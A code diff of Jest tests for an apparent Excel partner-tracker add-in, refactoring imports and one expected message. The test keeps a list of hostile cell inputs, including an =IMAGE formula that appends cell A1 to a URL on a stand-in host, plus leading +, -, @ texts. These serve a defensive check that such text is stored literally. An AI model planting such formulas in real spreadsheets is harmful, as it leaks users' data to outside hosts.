@@ -11,8 +11,10 @@ import type { Notice } from '../office/taskpane/notice';
 import { buildFormulaEngine, type EngineTable } from '../preview/formula-engine';
 import { OVERDUE_COLOURS, STAGE_COLOURS, isOwnColourRule } from '../shared/formatting';
 import { TRACKER_TEXTS } from '../shared/messages/tracker';
-import * as tracker from '../shared/tracker';
-import { MEETING_COLUMNS, PARTNER_COLUMNS, excelSerialDate, type PartnerColumnKey } from '../shared/tracker';
+// The layout module itself: the tracker folder's index re-exports it with getters, which cannot be spied on.
+import * as trackerLayout from '../shared/tracker/layout';
+import { EXCEL_DIALECT, MEETING_COLUMNS, PARTNER_COLUMNS, planTrackerNames, type PartnerColumnKey } from '../shared/tracker';
+import { excelSerialDate } from '../shared/dates';
 import { type ExcelFake, type ExcelSheetModel, areaAddress, createExcelFake, parseAddress, ribbonEvent } from './fakes/excel';
 
 const column = (key: PartnerColumnKey) => PARTNER_COLUMNS.findIndex((candidate) => candidate.key === key);
@@ -184,8 +186,8 @@ describe('Create partner tracker in Excel keeps what it writes', () => {
   const HOSTILE = ['=IMAGE("https://example.com/x.png"&A1)', '+49 170 1234567', '-Anna', '@Ben', '007', 'TRUE', '1/2', '1e3'];
 
   it('stores every text of the example rows as written, and keeps numbers, dates and formulas', async () => {
-    const real = tracker.trackerLayouts;
-    jest.spyOn(tracker, 'trackerLayouts').mockImplementation((options) =>
+    const real = trackerLayout.trackerLayouts;
+    jest.spyOn(trackerLayout, 'trackerLayouts').mockImplementation((options) =>
       real(options).map((layout) => ({
         ...layout,
         // Every text cell of the example rows becomes one of the hostile texts.
@@ -194,7 +196,7 @@ describe('Create partner tracker in Excel keeps what it writes', () => {
     );
     const { fake } = await setup();
     await press(fake, 'createTrackerWithExamples');
-    const written = real({ dialect: 'excel', language: 'en', names: tracker.planTrackerNames('en', []), withExamples: true, today: new Date() });
+    const written = real({ dialect: EXCEL_DIALECT, language: 'en', names: planTrackerNames('en', []), withExamples: true, today: new Date() });
     let texts = 0;
     for (const layout of written) {
       const sheet = fake.workbook.sheet(layout.name)!;
@@ -313,7 +315,7 @@ describe('Apply stage colours in Excel', () => {
       ['=OR($E2="Close friend",$E2="Enge Freundschaft")', STAGE_COLOURS.closeFriend.background, STAGE_COLOURS.closeFriend.text, 'E2:E1048576'],
       ['=AND(ISNUMBER($J2),$J2<TODAY())', OVERDUE_COLOURS.background, OVERDUE_COLOURS.text, 'J2:J1048576'],
     ]);
-    expect(notices.at(-1)!.message).toBe('Stage colours applied on Partners, overdue contacts highlighted. Replaced 5 earlier Bondstage rules; kept 3 of your own rules.');
+    expect(notices.at(-1)!.message).toBe('Stage colours applied on Partners, overdue contacts highlighted. Replaced 5 earlier Bondstage rules; kept 3 rules of your own.');
   });
 
   it('finds a German stage header on any sheet, even when the header starts in a later column', async () => {
